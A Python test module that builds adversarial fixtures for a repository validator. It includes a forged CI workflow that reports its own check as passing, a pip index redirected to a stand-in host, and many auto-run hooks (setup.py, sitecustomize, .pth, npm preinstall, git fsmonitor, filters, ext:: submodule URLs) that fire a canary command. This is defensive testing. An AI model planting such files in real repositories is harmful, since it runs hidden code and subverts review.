"""Rogues that change what judges: workflows, muster itself, the charter, what tools start by
themselves."""

from __future__ import annotations

from support.repos import LINK, SUBMODULE, Content, charter
from support.rogues.rogue import Fate, Files, rogue, rogue_files
from support.rogues.site import Site

FORGED = """\
name: muster
on: {on}
permissions: {{statuses: write, contents: write}}
jobs:
  judge:
    name: muster/validate
    runs-on: ubuntu-latest
    steps:
      - env: {{GH_TOKEN: "${{{{ github.token }}}}"}}
        run: |
          {canary}
          gh api "repos/$GITHUB_REPOSITORY/statuses/$GITHUB_SHA" -f state=success \\
            -f context=muster/validate -f description="Fine: nothing to find fault with"
"""
"""A workflow that says of itself that all is well."""


def forged(site: Site, on: str) -> str:
    """The forged workflow; ``on`` is what starts it."""
    return FORGED.format(on=on, canary=site.canary)


@rogue("rewrites-the-judge", "a muster.yml that passes everything", "M307", Fate.LOOK)
def _(site: Site) -> str:
    return site.step({".github/workflows/muster.yml": forged(site, "pull_request_target")})


@rogue("same-check-twice", "a second workflow that reports the same check", "M307", Fate.LOOK)
def _(site: Site) -> str:
    return site.step({".github/workflows/a.yml": forged(site, "pull_request")})


@rogue("judge-with-a-claim", "a claim that brings its own judge along", "M302")
def _(site: Site) -> str:
    files = {
        site.path: site.text(),
        ".github/workflows/muster.yml": forged(site, "pull_request_target"),
    }
    return site.step(files)


@rogue("installs-its-own", "install.sh and requirements.txt of its own", "M307", Fate.LOOK)
def _(site: Site) -> str:
    pins = f"--index-url https://evil.invalid/simple\n-e .\n# {site.bait!r}\n"
    return site.step(
        {
            ".github/muster/install.sh": f"#!/bin/sh\n{site.canary}\n",
            ".github/muster/requirements.txt": pins,
        }
    )


@rogue_files(
    "code", "own-validator", "a muster whose rules find nothing", "M307", Fate.LOOK, told=False
)
def _(site: Site) -> Files:
    code = f"import os\nos.system({site.canary!r})\n"
    names = ("__init__.py", "rules/catalog.py", "cli/main.py", "rules/change/foreign_record.py")
    return {f"tools/muster/{name}": code for name in names}


@rogue_files("code", "own-schema", "a schema that takes any record", "M307", Fate.LOOK, told=False)
def _(site: Site) -> Files:
    return {"schema/session.schema.json": "{}"}


@rogue("claim-by-its-own-schema", "a record that only its own schema takes", "M101")
def _(site: Site) -> str:
    files = {site.path: site.text(role="Whatever"), "schema/session.schema.json": "{}"}
    return site.step(files)


@rogue("own-code-owners", "itself as the owner of everything", "M307", Fate.LOOK)
def _(site: Site) -> str:
    return site.step({".github/CODEOWNERS": "* @mallory\n"})


@rogue("own-approver", "itself as the approver in the charter", "M307", Fate.LOOK)
def _(site: Site) -> str:
    approver = f"[{{name: Mallory, github: mallory, key: {site.crew.public(site.key)}}}]"
    lines = {"identity": "signed", "approval": "forge", "approvers": approver}
    return site.step({"registry/charter.yaml": charter(200, **lines)})


@rogue("open-charter", "a charter that asks for no signature", "M307")
def _(site: Site) -> str:
    return site.step({"registry/charter.yaml": charter(900, identity="open")}, None)


@rogue("approves-itself-by-charter", "a claim with the charter that approves it", "M302")
def _(site: Site) -> str:
    files = {site.path: site.text(), "registry/charter.yaml": charter(900, identity="open")}
    return site.step(files)


@rogue("no-charter", "main without its charter", "M305")
def _(site: Site) -> str:
    return site.step({"registry/charter.yaml": None})


@rogue_files(
    "code", "starts-by-itself", "files that tools run unasked", "M307", Fate.LOOK, told=False
)
def _(site: Site) -> Files:
    python = f"import os\nos.system({site.canary!r})\n"
    shell = f"#!/bin/sh\n{site.canary}\n"
    names = (
        "conftest.py", "setup.py", "sitecustomize.py", "usercustomize.py", "evil.pth", "git.py",
        "muster.py", "tests/conftest.py", "noxfile.py", "click.py",
    )  # fmt: skip
    shells = ("git", "gh", "python3", "install.sh", ".envrc", ".bashrc", ".profile", "muster")
    files: dict[str | bytes, Content] = dict.fromkeys(names, python)
    files |= dict.fromkeys(shells, (0o100755, shell))
    files |= {
        "Makefile": f"$(shell {site.canary})\nall:\n\t{site.canary}\n",
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "setup"\n',
        "package.json": f'{{"scripts": {{"preinstall": "{site.canary}"}}}}',
        ".config/gh/config.yml": f"aliases:\n  api: '!{site.canary}'\n",
        ".local/share/gh/extensions/gh-api/gh-api": (0o100755, shell),
    }
    return files


@rogue_files(
    "code", "settings-of-git", "attributes, hooks and settings", "M307", Fate.LOOK, told=False
)
def _(site: Site) -> Files:
    command = f"\"sh -c '{site.canary}'\""
    settings = (
        f"[core]\n\tfsmonitor = {command}\n\tsshCommand = {command}\n\thooksPath = hooks\n\tbare\n"
        f'[filter "x"]\n\tsmudge = {command}\n\tclean = {command}\n\trequired\n'
        f'[diff "x"]\n\ttextconv = {command}\n\tcommand = {command}\n'
        f'[merge "x"]\n\tdriver = {command}\n'
        f"[include]\n\tpath = {site.canaries}/include\n"
    )
    hooks = (
        "post-checkout",
        "post-merge",
        "pre-commit",
        "reference-transaction",
        "post-index-change",
    )
    shell = (0o100755, f"#!/bin/sh\n{site.canary}\n")
    files: dict[str | bytes, Content] = {
        ".gitattributes": "* filter=x diff=x merge=x export-subst ident\n",
        ".gitconfig": settings,
        "config": settings,
        "HEAD": "ref: refs/heads/main\n",
        "objects/x": "",
        "refs/x": "",
        **{f"hooks/{name}": shell for name in hooks},
        **{f".githooks/{name}": shell for name in hooks},
    }
    return files


@rogue_files("code", "submodule-by-a-program", "an address that is a program", "M307", Fate.LOOK,
       told=False)  # fmt: skip
def _(site: Site) -> Files:
    url = f"ext::sh -c '{site.canary}'"
    modules = f'[submodule "x"]\n\tpath = x\n\turl = {url}\n'
    return {".gitmodules": modules, "x": (SUBMODULE, site.main)}


@rogue("submodule-by-a-command", "a submodule that is updated by a command", "can't be judged")
def _(site: Site) -> str:
    modules = f'[submodule "x"]\n\tpath = x\n\turl = ./x\n\tupdate = !{site.canary}\n'
    return site.step({".gitmodules": modules, "x": (SUBMODULE, site.main)})


@rogue("linked-workflows", "workflows that are a link out of the repository", "M307", Fate.LOOK)
def _(site: Site) -> str:
    return site.step({".github": (LINK, "/tmp"), ".github/muster": None})  # noqa: S108
